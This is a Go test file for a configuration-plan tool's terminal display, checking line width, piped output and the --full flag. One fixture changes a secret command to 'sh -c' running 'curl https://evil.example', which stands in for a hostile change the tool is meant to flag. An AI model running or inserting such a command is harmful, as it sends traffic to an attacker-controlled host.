package ui_test

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/text/width"

	"github.com/codexform/codexform/cmd/codexform/ui"
	"github.com/codexform/codexform/plan"
)

// wideScreenful is a plan with what is hard to fit: long values, long addresses, a
// removed table, letters of two columns.
func wideScreenful() plan.Plan {
	p := everyKind()
	config := &p.Files[0]
	config.Changes = append(config.Changes,
		plan.Change{Address: plan.Address{"developer_instructions"}, Action: plan.Update, Before: plan.Str(strings.Repeat("be kind ", 40)), After: plan.Str(strings.Repeat("日本語", 50)), Origin: at(30, 3)},
		plan.Change{Address: plan.Address{"projects", "/home/kim/" + strings.Repeat("a-long-folder/", 12)}, Action: plan.Create, After: plan.Str("🎉 yes ✅"), Origin: at(31, 3)},
	)
	for i := range 5 {
		config.Changes = append(config.Changes, plan.Change{Address: plan.Address{"model_providers", "old", fmt.Sprint("key", i)}, Action: plan.Delete, Before: plan.Int(1), Reason: "listed under absent"})
	}
	p.Policy = []plan.PolicyChange{{Path: []string{"secret", "command"}, Before: plan.List(plan.Str("vault"), plan.Str("kv"), plan.Str("get")), After: plan.List(plan.Str("sh"), plan.Str("-c"), plan.Str(strings.Repeat("curl https://evil.example ", 6))), Origin: at(9, 3)}}
	p.Diagnostics = append(p.Diagnostics, plan.Diagnostic{Severity: plan.Review, Rule: "runs-command", Summary: "secret.command: " + strings.Repeat("curl https://evil.example ", 6), Origin: at(9, 3)})
	return p
}

// TestScreens keeps a plan as terminals of four widths show it, and demands that no
// line is wider than its screen.
func TestScreens(t *testing.T) {
	for _, columns := range []int{60, 80, 120, 200} {
		got := say(ui.Options{Format: ui.Text, Width: columns}, func(v ui.View) {
			v.Plan(wideScreenful(), notConfirmed())
		})
		compare(t, filepath.Join("testdata", fmt.Sprintf("screen.%d.txt", columns)), got)
		for line := range strings.Lines(got) {
			if n := columnsOf(strings.TrimRight(line, "\n")); n > columns {
				t.Errorf("%d columns on a screen of %d: %s", n, columns, line)
			}
		}
	}
}

// columnsOf counts what a terminal shows, by another way than the view does.
func columnsOf(s string) int {
	n := 0
	for _, r := range s {
		switch width.LookupRune(r).Kind() {
		case width.EastAsianWide, width.EastAsianFullwidth:
			n += 2
		default:
			n++
		}
	}
	return n
}

// TestPipe demands that what a program reads has a line for each thing, whole.
func TestPipe(t *testing.T) {
	got := say(ui.Options{Format: ui.Text}, func(v ui.View) { v.Plan(wideScreenful(), notConfirmed()) })
	for _, whole := range []string{
		strings.Repeat("be kind ", 40) + `" → "` + strings.Repeat("日本語", 50),
		"! runs-command\n    secret.command: " + strings.TrimSpace(strings.Repeat("curl https://evil.example ", 6)),
		"- model_providers.old ",
	} {
		if !strings.Contains(got, whole) {
			t.Errorf("no line has\n%s\nin\n%s", whole, got)
		}
	}
}

// TestFull demands that --full cuts and folds nothing, on any screen.
func TestFull(t *testing.T) {
	got := say(ui.Options{Format: ui.Text, Width: 60, Full: true}, func(v ui.View) { v.Plan(wideScreenful(), nil) })
	for _, whole := range []string{strings.Repeat("be kind ", 40), strings.Repeat("日本語", 50), "model_providers.old.key4"} {
		if !strings.Contains(got, whole) {
			t.Errorf("--full lacks %s", whole)
		}
	}
	short := say(ui.Options{Format: ui.Text, Width: 60}, func(v ui.View) { v.Plan(wideScreenful(), nil) })
	for _, want := range []string{"…(322 characters)…", "(5 keys below it"} {
		if !strings.Contains(short, want) {
			t.Errorf("without --full it lacks %s:\n%s", want, short)
		}
	}
}
